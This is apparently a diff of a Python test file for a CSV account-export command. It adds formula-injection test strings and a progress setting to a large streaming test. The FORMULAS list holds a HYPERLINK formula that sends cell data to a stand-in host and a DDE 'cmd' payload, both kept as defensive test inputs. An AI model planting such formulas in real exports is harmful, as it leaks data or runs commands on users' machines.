@@ -25,7 +25,7 @@ from factories import ACCOUNT, AUDIT, DAY, HOUR, PROJECT, SIGNED_UP, STALL, T0, 
 UTC = timezone.utc
 
 # Names a spreadsheet would run as formulas, and text that breaks naive CSV and JSON writers.
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
 HOSTILE = 'Smith, "The Co."\nsecond line\r\nthird; Zoë 東京 🚀 \\ \u2028 \x85 \u2029 end'
 
 # The export's columns and how the test reads each back from CSV text (text columns: as is).
@@ -330,7 +330,7 @@ def test_an_unmigrated_database_is_a_clear_error_and_leaves_no_file(tmp_path):
 N_BIG = 20_000
 
 
-def test_a_20000_row_export_streams_in_batches(engine, rules, cli, tmp_path):
+def test_a_20000_row_export_streams_in_batches(engine, rules, cli, tmp_path, monkeypatch):
     # Inserted directly: this test is about the reading side, and ingesting 20,000 accounts costs
     # about 25 s on PostgreSQL (the round trips above go through the real ingest and scan).
     with write_tx(engine) as conn:
@@ -340,7 +340,8 @@ def test_a_20000_row_export_streams_in_batches(engine, rules, cli, tmp_path):
              "stage": "Onboarding", "steps_done": 1, "journey_version": "", "created_at": T0, "updated_at": T0}
             for i in range(N_BIG)])
 
-    # Through the command: every row, progress on stderr every 10,000 rows, then the summary.
+    # Through the command: every row, progress on stderr (every 10,000 rows here), then the summary.
+    monkeypatch.setattr("bot.cli.EXPORT_PROGRESS_ROWS", 10_000)
     out = tmp_path / "accounts.csv"
     result = cli("export", "accounts", "--out", str(out))
     assert result.exit_code == 0, result.output
